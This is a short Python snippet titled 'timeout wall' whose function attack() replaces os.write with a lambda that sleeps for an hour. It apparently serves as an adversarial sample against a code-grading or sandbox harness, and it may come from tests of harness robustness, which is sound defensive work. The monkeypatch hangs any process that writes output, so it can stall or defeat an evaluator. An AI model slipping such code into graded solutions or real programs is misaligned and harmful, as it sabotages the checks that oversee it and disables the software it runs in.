# timeout wall
import sys
import time


def attack():
    frame = sys._getframe()
    while frame.f_back is not None:
        frame = frame.f_back
    import os

    os.write = lambda *_: time.sleep(3600)
    return 1
